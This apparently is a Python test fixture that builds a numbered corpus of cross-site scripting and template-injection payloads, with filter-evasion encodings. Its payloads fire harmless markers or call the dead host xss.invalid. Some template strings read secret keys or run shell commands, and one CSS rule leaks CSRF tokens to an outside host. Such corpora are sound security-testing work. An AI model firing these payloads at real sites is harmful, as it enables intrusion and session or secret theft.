"""A corpus of cross-site scripting payloads, in groups, each with its own number.

Every payload that would execute does something a test can see, tagged with its own
number so a report names the payload that got through: it opens a dialog
(`alert(n)`, `confirm(n)`, `prompt(n)`), sets a global `window.__xss_<n>`, or asks
for `http://xss.invalid/<n>` (a host that cannot exist) or `/xss-never-served/<n>` on
the test server (a path nothing serves). In the templates below `§` stands for the
number.

Template-injection payloads multiply distinct numbers (31337 times a small prime) so
a test can search a page for the product, which nothing else on a page would show.

The hand-written groups come first; `encoded_scheme_variants` adds the encodings of
dangerous URL schemes (case, whitespace, entities, percent-encoding, control
characters) in the three places a person can put a link.
"""

from __future__ import annotations

from dataclasses import dataclass

#: The host injected requests are sent to; the browser test reports any request to it.
EVIL_HOST = "xss.invalid"
#: A path on the test server that nothing serves; a request for it means a payload ran.
NEVER_SERVED = "/xss-never-served/"

#: Template-injection payloads and the product each would show if it were evaluated.
TEMPLATE_PRODUCTS = {
    "{{ 31337*3 }}": "94011",
    "${31337*5}": "156685",
    "{% print(31337*7) %}": "219359",
    "#{31337*11}": "344707",
    "<%= 31337*13 %>": "407381",
    "[[${31337*17}]]": "532729",
    "{{= 31337*19 }}": "595403",
    "@(31337*23)": "720751",
    "{{ '7'*7 }}": "7777777",
}


@dataclass(frozen=True)
class Payload:
    """One payload: its number, its group and its text (with the number filled in)."""

    number: int
    group: str
    text: str

    @property
    def marker(self) -> str:
        """A plain word written after the payload, to find where it was shown."""
        return f"xsscanary{self.number:03d}"

    def labelled(self) -> str:
        """The payload followed by its marker, as written into a multi-line field."""
        return f"{self.text}\n\n{self.marker}"


SCRIPT_TAGS = [
    "<script>alert(§)</script>",
    "<script>window.__xss_§=1</script>",
    "<SCRIPT SRC=//xss.invalid/§.js></SCRIPT>",
    "<script src=/xss-never-served/§.js></script>",
    "<script/x>alert(§)</script>",
    "<script\t>confirm(§)</script>",
    "<scr<script>ipt>alert(§)</scr</script>ipt>",
    "</script><script>alert(§)</script>",
    "<<script>alert(§);//<</script>",
    "<script>//<!--\nalert(§)//--></script>",
    '<script type="module">window.__xss_§=1</script>',
    "<script>fetch('//xss.invalid/§')</script>",
    "<template><script>alert(§)</script></template>",
    '<script>new Image().src="//xss.invalid/§"</script>',
    "<script>setTimeout('prompt(§)')</script>",
]

ATTRIBUTE_BREAKERS = [
    '"><img src=x onerror=alert(§)>',
    "'><svg onload=alert(§)>",
    '" onmouseover="alert(§)',
    "' onfocus='alert(§)' autofocus='",
    '" autofocus onfocus=alert(§) x="',
    '"/><script>alert(§)</script>',
    "</textarea><script>alert(§)</script>",
    "</title><script>alert(§)</script>",
    "</style><script>alert(§)</script>",
    "--><script>alert(§)</script>",
    "]]><script>alert(§)</script>",
    "`-alert(§)-`",
    "';alert(§);//",
    '";window.__xss_§=1;//',
    '\\";alert(§);//',
    '" style="background:url(//xss.invalid/§)',
    'x" onerror="alert(§)',
    "' onpointerenter='window.__xss_§=1",
    '"><a href="javascript:alert(§)">x</a>',
    "</option></select><img src=x onerror=alert(§)>",
    '" accesskey="x" onclick="alert(§)',
    "</noscript><img src=x onerror=alert(§)>",
    "</a><a href=javascript:alert(§)>x",
    '" data-live-room="x" data-socketio-src="//xss.invalid/§',
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(§)>",
    "<img/src=x/onerror=alert(§)>",
    "<img src=x onerror\n=window.__xss_§=1>",
    "<IMG SRC=x oNeRrOr=alert(§)>",
    '<img src=x onerror="&#97;lert(§)">',
    "<body onload=alert(§)>",
    "<body onpageshow=window.__xss_§=1>",
    "<svg onload=alert(§)>",
    "<input autofocus onfocus=alert(§)>",
    "<input onblur=confirm(§) autofocus><input autofocus>",
    "<details open ontoggle=alert(§)>",
    "<video><source onerror=alert(§)></video>",
    "<audio src=x onerror=window.__xss_§=1>",
    "<marquee onstart=alert(§)>x</marquee>",
    "<div onmouseover=alert(§)>hover me</div>",
    "<div onpointerover=window.__xss_§=1>point here</div>",
    "<select autofocus onfocus=alert(§)></select>",
    "<textarea autofocus onfocus=alert(§)></textarea>",
    "<keygen autofocus onfocus=alert(§)>",
    "<a onclick=alert(§)>click</a>",
    "<form onsubmit=alert(§)><button>go</button></form>",
    "<button onclick=alert(§)>press</button>",
    '<div style="animation-name:spin" onanimationstart=alert(§)>x</div>',
    '<p style="transition:color 1s" ontransitionend=alert(§)>x</p>',
    "<x contenteditable onblur=alert(§)>edit me</x>",
    "<x onbeforecopy=alert(§) contenteditable>copy</x>",
    "<image src=x onerror=prompt(§)>",
    "<img srcset=x onerror=alert(§)>",
    "<picture><img src=x onerror=alert(§)></picture>",
    "<xss onfocus=alert(§) tabindex=1 id=x autofocus></xss>",
    "<object data=x onerror=alert(§)></object>",
    "<iframe onload=alert(§)></iframe>",
    "<style onload=alert(§)></style>",
    "<link rel=stylesheet href=x onerror=alert(§)>",
    "<track onerror=alert(§) src=x>",
    "<a href=# onauxclick=alert(§)>right click</a>",
    "<input type=text onkeydown=alert(§) autofocus>",
    "<div onwheel=alert(§)>scroll</div>",
    "<form><input type=submit onformdata=alert(§)></form>",
    "<img src=x:alert(§) onerror=eval(src)>",
]

SVG_AND_MATHML = [
    "<svg><script>alert(§)</script></svg>",
    "<svg><animate onbegin=alert(§) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(§)"><text x=20 y=20>x</text></a></svg>',
    "<svg><a><set attributeName=href to=javascript:alert(§) /><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(§)'/></svg>#x\"/></svg>",
    "<svg><foreignObject><img src=x onerror=alert(§)></foreignObject></svg>",
    "<svg><image href=//xss.invalid/§ /></svg>",
    "<svg/onload=window.__xss_§=1>",
    '<math><mi xlink:href="javascript:alert(§)">x</mi></math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(§)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(§)></style></mglyph></table>",
    "<svg><style><img src=x onerror=alert(§)></style></svg>",
    "<svg><title><![CDATA[</title><script>alert(§)</script>]]></title></svg>",
    '<math href="javascript:alert(§)">x</math>',
    "<svg><desc><![CDATA[</desc><script>alert(§)</script>]]></desc></svg>",
    "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>alert(§)</handler>",
    '<svg><feImage href="//xss.invalid/§"/></svg>',
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(§)></annotation-xml>",
]

URL_SCHEMES = [
    '<a href="javascript:alert(§)">x</a>',
    '<a href="data:text/html,<script>alert(§)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#§">x</a>',
    '<a href="vbscript:msgbox(§)">x</a>',
    '<iframe src="data:text/html,<script>parent.alert(§)</script>"></iframe>',
    '<object data="javascript:alert(§)"></object>',
    '<embed src="javascript:alert(§)">',
    '<img src="data:image/svg+xml,<svg onload=alert(§)>">',
    '<a href="javascript://%0aalert(§)">x</a>',
    "<a href=javascript:window.__xss_§=1>x</a>",
    '<a href="  javascript:alert(§)">x</a>',
    '<a xlink:href="javascript:alert(§)">x</a>',
]

MARKDOWN_TRICKS = [
    "[x](javascript:alert(§))",
    "[x](JAVASCRIPT:alert(§))",
    "[x]( javascript:alert(§))",
    "[x](<javascript:alert(§)>)",
    "[x](javascript&#58;alert(§))",
    "[x][r]\n\n[r]: javascript:alert(§)",
    "[r]\n\n[r]: javascript:window.__xss_§=1",
    "<javascript:alert(§)>",
    '![x](x" onerror="alert(§))',
    "![x](https://xss.invalid/§.png)",
    '![x" onerror="alert(§)](x)',
    '[x](https://ok.example "t\\" onmouseover=\\"alert(§)")',
    '[x](https://ok.example" onclick="alert(§))',
    '<a href="javascript:alert(§)">html inside Markdown</a>',
    "<img src=x onerror=alert(§)> inside Markdown",
    "```html\n<script>alert(§)</script>\n```",
    "`<script>alert(§)</script>`",
    "[a](javascript:alert(§)//https://ok.example)",
    "[![x](x)](javascript:alert(§))",
    "[x](vbscript:msgbox(§))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#§)",
    '<https://ok.example/"onmouseover="alert(§)>',
    '[x](https://ok.example/ "onmouseover=alert(§)")',
    "*<script>alert(§)</script>*",
    "> <script>alert(§)</script>",
    "- <img src=x onerror=alert(§)>",
    '<div markdown="1">[x](javascript:alert(§))</div>',
    "[x](java%0ascript:alert(§))",
    "[x](%6a%61vascript:alert(§))",
    "[x](//xss.invalid/§)",
    "https://xss.invalid/§?<script>alert(§)</script>",
    "www.xss.invalid/§\"onmouseover='alert(§)'",
    "[<img src=x onerror=alert(§)>](https://ok.example)",
    "[x](https://ok.example)<!--\n--><script>alert(§)</script>",
    "    <script>alert(§)</script>",
    "## <script>alert(§)</script>",
    "[x]: https://ok.example 'a'\n\n<x onclick=alert(§)>[x]</x>",
    "[x](\njavascript:alert(§))",
    "\\<script>alert(§)\\</script>",
    "&lt;script&gt;alert(§)&lt;/script&gt; in Markdown",
]

TEMPLATE_INJECTION = [
    "{{7*7}}",
    *TEMPLATE_PRODUCTS,
    "{{config}}",
    "{{ config.SECRET_KEY }}",
    "{{ self.__init__.__globals__ }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{constructor.constructor('alert(§)')()}}",
    "{% raw %}{{ 31337*3 }}{% endraw %}",
    "{%- for x in range(3) %}loop{% endfor %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${alert(§)}",
    "{{ lipsum.__globals__ }}",
]

CSS_EXPRESSIONS = [
    '<div style="background:url(javascript:alert(§))">x</div>',
    '<div style="width:expression(alert(§))">x</div>',
    "<style>@import 'http://xss.invalid/§.css';</style>",
    "<link rel=stylesheet href=//xss.invalid/§.css>",
    "<style>body{background:url(//xss.invalid/§)}</style>",
    '<div style="behavior:url(//xss.invalid/§.htc)">x</div>',
    '<p style="-moz-binding:url(//xss.invalid/§.xml#xss)">x</p>',
    "<style>*{x:expression(alert(§))}</style>",
    "<span style=\"background-image:url('//xss.invalid/§')\">x</span>",
    '<div style="position:fixed;inset:0;background:red">overlay §</div>',
    "<style>input[name=csrf_token][value^=a]{background:url(//xss.invalid/§)}</style>",
]

META_BASE_FORM_FRAME = [
    '<meta http-equiv="refresh" content="0;url=javascript:alert(§)">',
    '<meta http-equiv="refresh" content="0;url=//xss.invalid/§">',
    '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
    '<base href="//xss.invalid/§/">',
    '<base href="javascript:alert(§)//">',
    '<form action="javascript:alert(§)"><button>go</button></form>',
    '<form><button formaction="javascript:alert(§)">x</button></form>',
    "<input type=image src=x formaction=//xss.invalid/§>",
    "<form action=/xss-never-served/§ method=post><button>send</button></form>",
    '<iframe src="javascript:alert(§)"></iframe>',
    '<iframe srcdoc="<script>parent.alert(§)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.alert(§)&gt;"></iframe>',
    '<object data="data:text/html,<script>alert(§)</script>"></object>',
    "<frameset onload=alert(§)>",
    "<link rel=import href=//xss.invalid/§>",
    "<portal src=//xss.invalid/§></portal>",
    "<isindex action=javascript:alert(§) type=image>",
    "<iframe src=//xss.invalid/§></iframe>",
    "<applet code=x archive=//xss.invalid/§.jar></applet>",
    '<meta name="referrer" content="unsafe-url"><img src=//xss.invalid/§>',
]

ENCODED_AND_NESTED = [
    "&lt;script&gt;alert(§)&lt;/script&gt;",
    "&#60;script&#62;alert(§)&#60;/script&#62;",
    "%3Cscript%3Ealert(§)%3C/script%3E",
    "%253Cscript%253Ealert(§)%253C/script%253E",
    "\\u003cscript\\u003ealert(§)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(§)\\x3c/script\\x3e",
    "<<img src=x onerror=alert(§)//>",
    "<img src=x onerror=alert(§)//",
    '<!--<img src="--><img src=x onerror=alert(§)//">',
    "<![CDATA[><script>alert(§)</script>]]>",
    '<?xml version="1.0"?><script>alert(§)</script>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(§)">x</a>',
    "<img src=x onerror=eval(atob('d2luZG93Ll9feHNzPTE='))>",
    "<img src=x onerror=\\u0061lert(§)>",
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(§)>"></svg>',
    '<noscript><p title="</noscript><img src=x onerror=alert(§)>">',
    "<div><style><!--</style><img src=x onerror=alert(§)>--></div>",
    '<a href="javas&#99;ript:alert(§)">x</a>',
    "<img src=`x` onerror=alert(§)>",
    "<img src='x' onerror=alert(§)'>",
    "<<SCRIPT>alert(§);//<</SCRIPT>",
    '<img """><script>alert(§)</script>">',
    '<a href="jav&#x0A;ascript:alert(§)">x</a>',
    "<select><template shadowrootmode=open><img src=x onerror=alert(§)></template></select>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    '<img src=x onerror=alert(§)>">',
]

UNICODE_TRICKS = [
    "\uff1cscript\uff1ealert(§)\uff1c/script\uff1e",
    "\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(§)",
    "[x](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(§))",
    "[x](java\u200bscript:alert(§))",
    '<a href="java\u200bscript:alert(§)">x</a>',
    "\ufeff<script>alert(§)</script>",
    "\u202e<script>alert(§)</script>\u202c",
    "<scr\u0130pt>alert(§)</scr\u0130pt>",
    "<\u017fcript>alert(§)</\u017fcript>",
    "\u2028<script>alert(§)</script>\u2029",
    "[x](javascript\u2028:alert(§))",
    "<img src=x onerror=alert\u00a0(§)>",
    "\U0001f600<svg onload=alert(§)>\U0001f600",
    '<a href="\u0001javascript:alert(§)">x</a>',
]

HAND_WRITTEN: dict[str, list[str]] = {
    "script tags": SCRIPT_TAGS,
    "attribute breakers": ATTRIBUTE_BREAKERS,
    "event handlers": EVENT_HANDLERS,
    "svg and mathml": SVG_AND_MATHML,
    "url schemes": URL_SCHEMES,
    "markdown tricks": MARKDOWN_TRICKS,
    "template injection": TEMPLATE_INJECTION,
    "css": CSS_EXPRESSIONS,
    "meta, base, forms and frames": META_BASE_FORM_FRAME,
    "encoded and nested": ENCODED_AND_NESTED,
    "unicode tricks": UNICODE_TRICKS,
}

# The ways "javascript:" is disguised from a filter that looks for the word.
JAVASCRIPT_DISGUISES = [
    "JaVaScRiPt:",
    " javascript:",
    "java\tscript:",
    "java\nscript:",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "&#0000106;avascript:",
    "javascript&colon;",
    "&#x6a&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3a",
    "%6Aavascript:",
    "\x01javascript:",
    "jav&#x09;ascript:",
]
# Other schemes that run code or show a page of the attacker's choosing.
OTHER_SCHEMES = [
    "data:text/html,<script>alert(§)</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#§",
    " data:image/svg+xml,<svg onload=alert(§)>",
    "vbscript:msgbox(§)",
    "VbScRiPt:msgbox(§)",
    "&#118;bscript:msgbox(§)",
]


def encoded_scheme_variants() -> list[str]:
    """Each disguised scheme as a Markdown link, an HTML link and a reference link."""
    targets = [d + "alert(§)" for d in JAVASCRIPT_DISGUISES] + OTHER_SCHEMES
    variants: list[str] = []
    for target in targets:
        variants.append(f"[x]({target})")
        variants.append(f'<a href="{target}">x</a>')
        variants.append(f"[x][ref]\n\n[ref]: {target}")
    return variants


def build_corpus() -> list[Payload]:
    """Number every payload, hand-written groups first, then the encoded variants."""
    groups = [*HAND_WRITTEN.items(), ("encoded schemes", encoded_scheme_variants())]
    payloads: list[Payload] = []
    for group, texts in groups:
        for text in texts:
            number = len(payloads) + 1
            payloads.append(Payload(number, group, text.replace("§", str(number))))
    return payloads


PAYLOADS: list[Payload] = build_corpus()


def short(limit: int) -> list[Payload]:
    """The payloads that fit, with their marker after a space, in a field of `limit`."""
    return [p for p in PAYLOADS if len(p.text) + 1 + len(p.marker) <= limit]


def one_line(payload: Payload) -> str:
    """The payload and its marker for a one-line field (titles, names)."""
    return f"{payload.text} {payload.marker}"
